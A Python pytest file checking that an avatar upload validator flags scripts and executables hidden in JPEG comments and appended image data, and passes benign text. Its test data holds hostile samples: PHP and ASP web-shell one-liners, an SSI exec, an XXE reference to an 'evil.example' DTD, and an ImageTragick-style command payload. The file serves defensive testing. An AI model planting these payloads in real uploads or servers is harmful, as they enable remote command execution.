"""What a red team hid: scripts and programs in places and spellings that were missed once."""

from __future__ import annotations

import io
import struct

import pytest
from PIL import Image

from prodkit import files

SCRIPTS = [
    b"<?\nsystem($_GET['a']);\n?>",
    b"<?=`$_GET[0]`?>",
    b"<?=$_GET[0]($_POST[1]);?>",
    b'<%eval request("cmd")%>',
    b"<%=7*7%>",
    b'<!--#exec cmd="id" -->',
    b'<xsl:stylesheet version="1.0"/>',
    b'<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
    b'CreateObject("WScript.Shell").Run "cmd.exe"',
    b"@echo off\r\nstart calc",
    b"push graphic-context\nfill 'url(https://x/\"|id\")'\npop graphic-context",
    b"#! /bin/sh\nid",
    b"#!/system/bin/sh\nid",
    b'O:8:"stdClass":1:{s:1:"a";i:1;}',
]
PROGRAMS = [
    b"\x7fELF\x02\x01\x01" + bytes(57),
    b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40),
    b"\0asm\1\0\0\0" + bytes(20),
    b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40),
    b"Rar!\x1a\x07\1\0" + bytes(40),
]


def saved(kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def comment(jpeg: bytes, text: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + jpeg[2:]


async def codes(avatars: files.Validator, data: bytes, name: str, declared: str = "") -> set[str]:
    try:
        await avatars.check(data, filename=name, declared_type=declared)
    except files.InvalidFileError as error:
        return {each.code for each in error.problems}
    return set()


@pytest.mark.parametrize("script", SCRIPTS)
async def test_scripts_in_a_comment(avatars: files.Validator, script: bytes) -> None:
    assert await codes(avatars, comment(saved("JPEG"), script), "a.jpg") == {"active_content"}


@pytest.mark.parametrize(
    "script", [SCRIPTS[1], SCRIPTS[2], SCRIPTS[3], b"<svg onload=alert(1)>", b"<img src=x>", *PROGRAMS]
)
async def test_whatever_follows_the_last_pixel(avatars: files.Validator, script: bytes) -> None:
    webp = saved("WEBP")
    inside = webp[20:] + script
    tail = b"VP8 " + struct.pack("<I", len(inside)) + inside + b"\0" * (len(inside) & 1)
    grown = b"RIFF" + struct.pack("<I", 4 + len(tail)) + b"WEBP" + tail
    jpeg = saved("JPEG")
    for data, name in ((grown, "a.webp"), (jpeg[:-2] + script + jpeg[-2:], "a.jpg")):
        assert await codes(avatars, data, name) & {"active_content", "embedded_file"}


@pytest.mark.parametrize(
    "text",
    [
        b"price: $_5.00 (eval later), 50% <off>, 3 < 4 & 5 > 4, #1 #!",
        b"Optimized by JPEGmini 3.9; see http://example.com/a.php?x=1",
        b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
        b"Author's <b>best</b> style; a link, a base and a frame",
    ],
)
async def test_ordinary_words_are_no_script(avatars: files.Validator, text: bytes) -> None:
    assert await codes(avatars, comment(saved("JPEG"), text), "a.jpg") == set()
